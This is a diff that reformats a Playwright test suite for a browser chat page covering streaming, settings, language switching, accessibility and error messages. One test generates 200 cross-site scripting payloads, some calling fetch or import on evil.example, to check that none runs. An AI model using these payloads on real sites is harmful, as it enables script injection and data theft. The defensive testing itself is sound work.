@@ -27,15 +27,24 @@ if not Path(CHROMIUM).exists():
 expect = playwright.expect
 
 ROOT = Path(__file__).resolve().parents[1]
-FLAGS = ["--no-sandbox", "--disable-gpu", "--no-first-run", "--disable-background-networking", "--disable-component-update",
-         "--disable-sync", "--disable-quic"]  # fmt: skip
+FLAGS = [
+    "--no-sandbox",
+    "--disable-gpu",
+    "--no-first-run",
+    "--disable-background-networking",
+    "--disable-component-update",
+    "--disable-sync",
+    "--disable-quic",
+]
 END = "data: [DONE]\n\n"
 
 
 def told(text: str = "", end: str | None = None) -> str:
     """One event of a stream."""
     delta = {"content": text} if text else {}
-    return f"data: {json.dumps({'choices': [{'index': 0, 'delta': delta, 'finish_reason': end}]}, ensure_ascii=False)}\n\n"
+    return (
+        f"data: {json.dumps({'choices': [{'index': 0, 'delta': delta, 'finish_reason': end}]}, ensure_ascii=False)}\n\n"
+    )
 
 
 def says(*pieces: str, end: str = "stop", wait_s: float = 0.0):
@@ -100,9 +109,13 @@ class Handler(BaseHTTPRequestHandler):
         self.server.paths.append(self.path)
         if self.path in PAGE:
             name, kind = PAGE[self.path]
-            self.reply(200, {"Content-Type": f"{kind}; charset=utf-8"}, [(ROOT / "extras/serve/page" / name).read_bytes()])
+            self.reply(
+                200, {"Content-Type": f"{kind}; charset=utf-8"}, [(ROOT / "extras/serve/page" / name).read_bytes()]
+            )
         elif self.path == "/v1/models":
-            self.reply(200, {"Content-Type": "application/json"}, [json.dumps({"data": [{"id": self.server.model}]}).encode()])
+            self.reply(
+                200, {"Content-Type": "application/json"}, [json.dumps({"data": [{"id": self.server.model}]}).encode()]
+            )
         else:
             self.reply(404, {}, [])
 
@@ -140,8 +153,10 @@ def visit(chromium):
         context = chromium.new_context(**{"locale": "en-US", "color_scheme": "light"} | options)
         contexts.append(context)
         context.set_default_timeout(10_000)
-        context.add_init_script("document.addEventListener('securitypolicyviolation', e => console.error('policy', e.violatedDirective));"
-                                + script)  # fmt: skip
+        context.add_init_script(
+            "document.addEventListener('securitypolicyviolation', e => console.error('policy', e.violatedDirective));"
+            + script
+        )
         context.on("request", lambda r: r.url.startswith(f"{url}/") or wrong.append(r.url))
         context.on("weberror", lambda e: wrong.append(str(e.error)))
         context.on("dialog", lambda d: (wrong.append(d.message), d.dismiss()))
@@ -194,7 +209,11 @@ def test_a_conversation_goes_back_and_forth_and_the_server_gets_all_of_it(stand,
     answered(page, "一吉利，<b>阿瞒</b> 😀")
     first = [("user", "曹操字什么？"), ("assistant", "曹操，字孟德。\n  沛国谯人")]
     assert messages(stand, 0) == first[:1] and messages(stand) == [*first, ("user", "小字呢？")]
-    assert stand.asked[0][1] == {"model": "toy", "messages": [{"role": "user", "content": "曹操字什么？"}], "stream": True}
+    assert stand.asked[0][1] == {
+        "model": "toy",
+        "messages": [{"role": "user", "content": "曹操字什么？"}],
+        "stream": True,
+    }
     assert page.locator("#chats .open").all_text_contents() == ["曹操字什么？"]
     assert page.locator("#question").input_value() == ""
 
@@ -228,7 +247,11 @@ def test_text_is_seen_while_it_comes_and_read_out_when_it_is_whole(stand, visit)
     ask(page, "词")
     expect(answer(page)).to_have_text("滚滚长江")
     log = page.locator("#log")
-    assert (log.get_attribute("aria-busy"), log.get_attribute("aria-live"), log.get_attribute("role")) == ("true", "polite", "log")
+    assert (log.get_attribute("aria-busy"), log.get_attribute("aria-live"), log.get_attribute("role")) == (
+        "true",
+        "polite",
+        "log",
+    )
     go.set()
     answered(page, "滚滚长江东逝水")
     assert log.get_attribute("aria-busy") == "false"
@@ -335,7 +358,9 @@ def test_regenerate_replaces_the_last_answer_and_only_once_a_new_word_came(stand
     assert texts(page) == ["甲", "一", "乙", "三"]
 
 
-@pytest.mark.parametrize("script", ["", "Object.defineProperty(Navigator.prototype, 'clipboard', {value: undefined});"], ids=["TLS", "plain"])
+@pytest.mark.parametrize(
+    "script", ["", "Object.defineProperty(Navigator.prototype, 'clipboard', {value: undefined});"], ids=["TLS", "plain"]
+)
 def test_copy_takes_the_answer_and_nothing_else(stand, visit, script):
     text = f"第一行\n<i>第二行</i> {len(script)}"  # the clipboard outlives a context
     stand.answers = [says(text)]
@@ -469,7 +494,14 @@ def test_a_browser_that_keeps_nothing_can_chat(stand, visit):
 def test_settings_go_with_each_question_and_the_key_stays_in_the_tab(stand, visit):
     page = visit(stand.url)
     page.get_by_role("button", name="Settings").click()
-    for label, value in {"System prompt": "你是曹操。", "Temperature": "0.5", "Top p": "0.9", "Max tokens": "64", "Seed": "7", "API key": "秘密"}.items():
+    for label, value in {
+        "System prompt": "你是曹操。",
+        "Temperature": "0.5",
+        "Top p": "0.9",
+        "Max tokens": "64",
+        "Seed": "7",
+        "API key": "秘密",
+    }.items():
         page.get_by_label(label).fill(value)
     page.get_by_role("button", name="Save").click()  # a key is ASCII: a header takes nothing else
     expect(page.locator("#dialog")).to_be_visible()
@@ -481,7 +513,11 @@ def test_settings_go_with_each_question_and_the_key_stays_in_the_tab(stand, visi
     headers, body = stand.asked[-1]
     assert headers["Authorization"] == "Bearer se cret"
     assert {name: body[name] for name in body if name not in ("messages", "model", "stream")} == {
-        "temperature": 0.5, "top_p": 0.9, "max_tokens": 64, "seed": 7}  # fmt: skip
+        "temperature": 0.5,
+        "top_p": 0.9,
+        "max_tokens": 64,
+        "seed": 7,
+    }
     assert messages(stand) == [("system", "你是曹操。"), ("user", "你是谁？")]
     assert "cret" not in page.evaluate("JSON.stringify(localStorage)")
     page.reload()
@@ -504,8 +540,10 @@ def test_settings_go_with_each_question_and_the_key_stays_in_the_tab(stand, visi
     assert tab.evaluate("sessionStorage.getItem('chat.key')") is None
 
 
-@pytest.mark.parametrize("locale, words, lang, switch", [
-    ("zh-CN", "发送", "zh-CN", "English"), ("zh-TW", "发送", "zh-CN", "English"), ("de-DE", "Send", "en", "中文")])  # fmt: skip
+@pytest.mark.parametrize(
+    "locale, words, lang, switch",
+    [("zh-CN", "发送", "zh-CN", "English"), ("zh-TW", "发送", "zh-CN", "English"), ("de-DE", "Send", "en", "中文")],
+)
 def test_the_language_is_the_browsers_until_it_is_switched(stand, visit, locale, words, lang, switch):
     page = visit(stand.url, locale=locale)
     send = page.locator("#send")
@@ -522,7 +560,9 @@ def test_the_language_is_the_browsers_until_it_is_switched(stand, visit, locale,
 
 def test_every_word_stands_in_both_languages():
     code = (ROOT / "extras/serve/page/chat.js").read_text()
-    tables = (re.sub(r'"[^"]*"', '""', code.partition(f"  {name}: {{")[2].partition("\n  },")[0]) for name in ("en", "zh"))
+    tables = (
+        re.sub(r'"[^"]*"', '""', code.partition(f"  {name}: {{")[2].partition("\n  },")[0]) for name in ("en", "zh")
+    )
     en, zh = (re.findall(r'(\w+): ""', table) for table in tables)
     used = set(re.findall(r'data-(?:say|name)="(\w+)"', (ROOT / "extras/serve/page/index.html").read_text()))
     used |= set(re.findall(r'(?:say|button)\("(\w+)"', code)) | {"user", "assistant"}
@@ -534,7 +574,9 @@ def luminance(page, selector: str, what: str) -> float:
     """Of a colour as it is painted, by WCAG's formula."""
     rgb = page.locator(selector).first.evaluate(
         """(e, what) => { const c = document.createElement("canvas").getContext("2d");
-        c.fillStyle = getComputedStyle(e)[what]; c.fillRect(0, 0, 1, 1); return [...c.getImageData(0, 0, 1, 1).data] }""", what)  # fmt: skip
+        c.fillStyle = getComputedStyle(e)[what]; c.fillRect(0, 0, 1, 1); return [...c.getImageData(0, 0, 1, 1).data] }""",
+        what,
+    )
     parts = [c / 255 / 12.92 if c / 255 <= 0.04045 else ((c / 255 + 0.055) / 1.055) ** 2.4 for c in rgb[:3]]
     return 0.2126 * parts[0] + 0.7152 * parts[1] + 0.0722 * parts[2]
 
@@ -611,13 +653,26 @@ def test_keys_do_it_all(stand, visit):
     reached = []
     for _ in range(30):
         page.keyboard.press("Tab")
-        reached.append(page.evaluate("""() => { const e = document.activeElement, s = getComputedStyle(e);
-            return [e == document.body ? "" : e.ariaLabel || e.textContent, s.outlineStyle != "none" && parseFloat(s.outlineWidth) >= 2, Number(s.opacity)]; }"""))
+        reached.append(
+            page.evaluate("""() => { const e = document.activeElement, s = getComputedStyle(e);
+            return [e == document.body ? "" : e.ariaLabel || e.textContent, s.outlineStyle != "none" && parseFloat(s.outlineWidth) >= 2, Number(s.opacity)]; }""")
+        )
         if reached[-1][0] == "Your question":
             break
     assert [name for name, *_ in reached if name] == [
-        "Send", "New conversation", "one two", "Delete: one two", "Conversations", "中文", "Dark or light", "Settings", "Answers",
-        "Copy", "Regenerate", "Your question"]  # fmt: skip
+        "Send",
+        "New conversation",
+        "one two",
+        "Delete: one two",
+        "Conversations",
+        "中文",
+        "Dark or light",
+        "Settings",
+        "Answers",
+        "Copy",
+        "Regenerate",
+        "Your question",
+    ]
     assert all(outlined and opacity == 1 for name, outlined, opacity in reached if name), reached
     assert len(stand.asked) == 1
 
@@ -668,26 +723,47 @@ def failed(_body):
     yield (told("半") + 'data: {"error": {"message": "the server failed under 7f"}}\n\n').encode()
 
 
-@pytest.mark.parametrize("reply, line, kept", [
-    (refuses(401, "the API key is missing or wrong", "invalid_api_key"), "The server wants an API key, and this one is missing or wrong: enter it in the settings.", ""),
-    (refuses(400, "the prompt has 300 tokens, the context of this model 128", "context_length_exceeded"),
-     "The conversation is longer than the model can read: begin a new one, or ask less. the prompt has 300 tokens, the context of this model 128", ""),
-    (refuses(400, "top_p must be a number above 0 and at most 1"), "The server refused: top_p must be a number above 0 and at most 1", ""),
-    (refuses(503, "too many", "overloaded", Retry_After="7"), "The server is busy: try again in 7 s.", ""),
-    (refuses(503, "too many", Retry_After="Wed, 21 Oct 2099 07:28:00 GMT"), "The server is busy: try again.", ""),
-    ((502, {}, lambda _: [b"<html>Bad gateway"]), "The server refused: HTTP 502", ""),
-    ((200, {}, cut_off), "The connection ended before the answer did.", "半"),
-    ((200, {"Content-Length": "100000"}, cut_off), "The server cannot be reached: is it running, and the network up?", "半"),
-    ((200, {}, failed), "The server refused: the server failed under 7f", "半"),
-    (says(), "The model said nothing.", ""),
-], ids=["401", "full", "400", "503", "503 with a date", "502", "cut off", "lost", "failed", "silent"])  # fmt: skip
+@pytest.mark.parametrize(
+    "reply, line, kept",
+    [
+        (
+            refuses(401, "the API key is missing or wrong", "invalid_api_key"),
+            "The server wants an API key, and this one is missing or wrong: enter it in the settings.",
+            "",
+        ),
+        (
+            refuses(400, "the prompt has 300 tokens, the context of this model 128", "context_length_exceeded"),
+            "The conversation is longer than the model can read: begin a new one, or ask less. the prompt has 300 tokens, the context of this model 128",
+            "",
+        ),
+        (
+            refuses(400, "top_p must be a number above 0 and at most 1"),
+            "The server refused: top_p must be a number above 0 and at most 1",
+            "",
+        ),
+        (refuses(503, "too many", "overloaded", Retry_After="7"), "The server is busy: try again in 7 s.", ""),
+        (refuses(503, "too many", Retry_After="Wed, 21 Oct 2099 07:28:00 GMT"), "The server is busy: try again.", ""),
+        ((502, {}, lambda _: [b"<html>Bad gateway"]), "The server refused: HTTP 502", ""),
+        ((200, {}, cut_off), "The connection ended before the answer did.", "半"),
+        (
+            (200, {"Content-Length": "100000"}, cut_off),
+            "The server cannot be reached: is it running, and the network up?",
+            "半",
+        ),
+        ((200, {}, failed), "The server refused: the server failed under 7f", "半"),
+        (says(), "The model said nothing.", ""),
+    ],
+    ids=["401", "full", "400", "503", "503 with a date", "502", "cut off", "lost", "failed", "silent"],
+)
 def test_an_error_is_one_line_and_the_next_try_works(stand, visit, reply, line, kept):
     stand.answers = [reply]
     page = visit(stand.url)
     ask(page, "问")
     expect(page.locator("#error")).to_have_text(line)
     assert page.locator("#error").get_attribute("role") == "alert"
-    expect(page.locator("#question")).to_have_value("" if kept else "问")  # without an answer it is there to be asked again
+    expect(page.locator("#question")).to_have_value(
+        "" if kept else "问"
+    )  # without an answer it is there to be asked again
     assert texts(page) == (["问", kept] if kept else [])
     if kept:
         expect(page.locator("article .note").last).to_have_text("the rest did not come")
@@ -724,27 +800,64 @@ def test_another_model_behind_the_same_address_is_noticed(stand, visit):
 
 def payloads() -> list[str]:
     """200 texts that would run something, or ask elsewhere, wherever one of them became HTML, a URL, code or a style."""
-    ways = ["alert({})", "top['al'+'ert']({})", "fetch('//evil.example/{}')", "document.title='hit{}'", "import('//evil.example/{}.js')"]
+    ways = [
+        "alert({})",
+        "top['al'+'ert']({})",
+        "fetch('//evil.example/{}')",
+        "document.title='hit{}'",
+        "import('//evil.example/{}.js')",
+    ]
     shapes = [
-        "<script>{}</script>", "</script><script>{}</script>", "<script src=data:,{}></script>", "<ScRiPt>{}</sCrIpT>", "<img src=x onerror={}>",
-        '"><img src=x onerror="{}">', "<svg onload={}>", "<svg><script>{}</script></svg>", "<svg><animate onbegin={} attributeName=x dur=1s>",
-        "<iframe srcdoc='<script>{}</script>'></iframe>", "<iframe src=\"javascript:{}\">", "<a href=\"javascript:{}\">x</a>", "[x](javascript:{})",
-        "![x](//evil.example/x.png\"onerror=\"{})", "<details open ontoggle={}>x", "<input autofocus onfocus={}>", "<textarea autofocus onfocus={}>",
-        "</textarea><script>{}</script>", "<video><source onerror={}>", "<body onload={}>", "<style>@import'//evil.example/x.css'</style><x onclick={}>",
-        "<link rel=stylesheet href=//evil.example/x.css><b onmouseover={}>", "<base href=//evil.example/><script>{}</script>",
-        "<meta http-equiv=refresh content=\"0;url=javascript:{}\">", "<form action=javascript:{}><button autofocus>", "<object data=\"javascript:{}\">",
-        "<math><mtext><table><mglyph><style><img src onerror={}>", "<noscript><p title=\"</noscript><img src=x onerror={}>\">",
-        "<template shadowrootmode=open><script>{}</script></template>", "' onfocus='{}' autofocus x='", "\" onmouseover=\"{}\" x=\"", "`${{{}}}`", "{{{{constructor.constructor('{}')()}}}}",
-        "';{};//", "\\u003cscript\\u003e{}\\u003c/script\\u003e", "&lt;script&gt;{}&lt;/script&gt;&#60;img src=x onerror=1&#62;", "<!--><script>{}</script>-->", "<x style='background:url(//evil.example/x)' onanimationstart={}>",
-        "\u202e<img src=x onerror={}>", "]]><script>{}</script>",
-    ]  # fmt: skip
+        "<script>{}</script>",
+        "</script><script>{}</script>",
+        "<script src=data:,{}></script>",
+        "<ScRiPt>{}</sCrIpT>",
+        "<img src=x onerror={}>",
+        '"><img src=x onerror="{}">',
+        "<svg onload={}>",
+        "<svg><script>{}</script></svg>",
+        "<svg><animate onbegin={} attributeName=x dur=1s>",
+        "<iframe srcdoc='<script>{}</script>'></iframe>",
+        '<iframe src="javascript:{}">',
+        '<a href="javascript:{}">x</a>',
+        "[x](javascript:{})",
+        '![x](//evil.example/x.png"onerror="{})',
+        "<details open ontoggle={}>x",
+        "<input autofocus onfocus={}>",
+        "<textarea autofocus onfocus={}>",
+        "</textarea><script>{}</script>",
+        "<video><source onerror={}>",
+        "<body onload={}>",
+        "<style>@import'//evil.example/x.css'</style><x onclick={}>",
+        "<link rel=stylesheet href=//evil.example/x.css><b onmouseover={}>",
+        "<base href=//evil.example/><script>{}</script>",
+        '<meta http-equiv=refresh content="0;url=javascript:{}">',
+        "<form action=javascript:{}><button autofocus>",
+        '<object data="javascript:{}">',
+        "<math><mtext><table><mglyph><style><img src onerror={}>",
+        '<noscript><p title="</noscript><img src=x onerror={}>">',
+        "<template shadowrootmode=open><script>{}</script></template>",
+        "' onfocus='{}' autofocus x='",
+        '" onmouseover="{}" x="',
+        "`${{{}}}`",
+        "{{{{constructor.constructor('{}')()}}}}",
+        "';{};//",
+        "\\u003cscript\\u003e{}\\u003c/script\\u003e",
+        "&lt;script&gt;{}&lt;/script&gt;&#60;img src=x onerror=1&#62;",
+        "<!--><script>{}</script>-->",
+        "<x style='background:url(//evil.example/x)' onanimationstart={}>",
+        "\u202e<img src=x onerror={}>",
+        "]]><script>{}</script>",
+    ]
     made = [shape.format(way.format(k)) for k, shape in enumerate(shapes) for way in ways]
     assert len(set(made)) == 200
     return made
 
 
 # What the page has: its elements with the names of their attributes.
-SKELETON = """() => [...document.querySelectorAll("*")].map(e => e.tagName + [...e.attributes].map(a => a.name).sort())"""
+SKELETON = (
+    """() => [...document.querySelectorAll("*")].map(e => e.tagName + [...e.attributes].map(a => a.name).sort())"""
+)
 DRIVE = """async (payloads) => {
     const at = (s) => document.querySelector(s)?.textContent;
     const until = async (so) => { for (let k = 0; !so(); k++) { if (k > 2000) throw Error(payload); await new Promise(r => setTimeout(r, 2)); } };
@@ -785,9 +898,18 @@ def test_none_of_200_payloads_runs_whoever_says_it(stand, visit):
         assert refused == f"The server refused: {payload}" and question == answer == model == payload
         assert title == payload.strip() and name == payload[:60]
         assert skeleton == plain[-1], payload
-    data = [{"title": p, "at": k, "messages": [{"role": "user", "content": p, "note": p}, {"role": "assistant", "content": p, "note": p}]}
-            for k, p in enumerate(said)]  # fmt: skip
-    page.evaluate("data => { localStorage.clear(); data.forEach((d, k) => localStorage.setItem('chat:' + d.title, JSON.stringify(d))) }", data)
+    data = [
+        {
+            "title": p,
+            "at": k,
+            "messages": [{"role": "user", "content": p, "note": p}, {"role": "assistant", "content": p, "note": p}],
+        }
+        for k, p in enumerate(said)
+    ]
+    page.evaluate(
+        "data => { localStorage.clear(); data.forEach((d, k) => localStorage.setItem('chat:' + d.title, JSON.stringify(d))) }",
+        data,
+    )
     page.reload()
     expect(page.locator("#chats .open")).to_have_count(200)
     found = page.evaluate("""() => [...document.querySelectorAll("#chats .open")].map((_, k) => {
@@ -804,7 +926,9 @@ def test_the_watch_of_these_tests_sees_what_it_is_for(stand, chromium):
     """A page that does run a payload is caught by each of the watchers."""
     context = chromium.new_context()
     caught = []
-    context.add_init_script("document.addEventListener('securitypolicyviolation', e => console.error('policy', e.violatedDirective));")
+    context.add_init_script(
+        "document.addEventListener('securitypolicyviolation', e => console.error('policy', e.violatedDirective));"
+    )
     context.on("console", lambda m: "policy" in m.text.lower() and caught.append("policy"))
     context.on("dialog", lambda d: (caught.append("dialog"), d.dismiss()))
     context.on("request", lambda r: r.url.startswith(f"{stand.url}/") or caught.append("request"))
@@ -838,17 +962,42 @@ def test_the_page_speaks_with_serve_py(small, tmp_path, visit):
     from core import checkpoint
     from model import ModelConfig
 
-    config = ModelConfig(vocab_size=small.vocab_size, hidden_size=32, intermediate_size=48, num_hidden_layers=2,
-                         num_attention_heads=4, num_key_value_heads=2, max_position_embeddings=4096)  # fmt: skip
+    config = ModelConfig(
+        vocab_size=small.vocab_size,
+        hidden_size=32,
+        intermediate_size=48,
+        num_hidden_layers=2,
+        num_attention_heads=4,
+        num_key_value_heads=2,
+        max_position_embeddings=4096,
+    )
     model = lively(config)
     model.model.embed_tokens.weight.data[[small.bos_id, small.eos_id]] = 0  # greedy, it does not end
     checkpoint.save_model(tmp_path / "toy", model, small, {"chat_format": "bos"})
-    process = subprocess.Popen([sys.executable, str(ROOT / "serve.py"), "--model", str(tmp_path / "toy"), "--port", "0", "--device", "cpu",
-                                "--api_key", "open sesame"], stdout=subprocess.PIPE, stderr=subprocess.PIPE, text=True,
-                               env=os.environ | {"OMP_NUM_THREADS": "1"})  # fmt: skip
+    process = subprocess.Popen(
+        [
+            sys.executable,
+            str(ROOT / "serve.py"),
+            "--model",
+            str(tmp_path / "toy"),
+            "--port",
+            "0",
+            "--device",
+            "cpu",
+            "--api_key",
+            "open sesame",
+        ],
+        stdout=subprocess.PIPE,
+        stderr=subprocess.PIPE,
+        text=True,
+        env=os.environ | {"OMP_NUM_THREADS": "1"},
+    )
     try:
         url = re.search(r"http://[\d.:]+", process.stdout.readline())[0]
-        page = visit(url, "if (location.protocol == 'http:' && !sessionStorage.length) sessionStorage.setItem('chat.key', 'open sesame')")
+        page = visit(
+            url,
+            "if (location.protocol == 'http:' && !sessionStorage.length) sessionStorage.setItem('chat.key', 'open sesame')",
+        )
         expect(page.locator("#model")).to_have_text("toy")
         page.get_by_role("button", name="Settings").click()
         page.get_by_label("API key").fill("wrong")
@@ -874,7 +1023,9 @@ def test_the_page_speaks_with_serve_py(small, tmp_path, visit):
         page.keyboard.press("Escape")
         expect(page.locator("article .note").last).to_have_text("stopped")
         ask(page, "曹操" * 9000)
-        expect(page.locator("#error")).to_contain_text(re.compile(r"longer than the model can read.*the context of this model 4096"))
+        expect(page.locator("#error")).to_contain_text(
+            re.compile(r"longer than the model can read.*the context of this model 4096")
+        )
         assert page.locator("article").count() == 2
     finally:
         process.terminate()
